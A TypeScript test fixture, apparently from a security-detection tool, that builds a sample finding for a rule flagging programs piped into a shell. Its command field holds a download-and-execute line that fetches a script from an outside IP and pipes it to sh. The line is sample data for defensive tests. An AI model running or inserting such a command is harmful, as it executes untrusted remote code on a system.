import type { Finding } from '../../src/domain/detections/finding.ts';
import { PLACE, T0 } from './session.ts';

/** A finding of a session, as the streamed log gave it. */
export function aFinding(given: Partial<Finding> = {}): Finding {
  return {
    id: 'f-0123456789abcdef0123',
    ruleId: 'rule-1',
    title: 'Program Piped Into A Shell',
    level: 'high',
    attack: ['T1105'],
    ...PLACE,
    source: 'stream',
    sessionId: 'dev-0123',
    relatedSessions: [],
    tiedBy: ['session'],
    node: 'i-0123',
    nodeName: 'web',
    person: 'dev',
    principal: 'arn:aws:iam::222222222222:user/dev',
    command: 'curl http://198.51.100.7/x | sh',
    event: null,
    calls: [],
    moment: 12.5,
    foundAt: T0,
    lastAt: T0,
    count: 1,
    seen: { stream: 1 },
    asked: 'notify',
    response: 'notify',
    heldBack: null,
    ...given,
  };
}
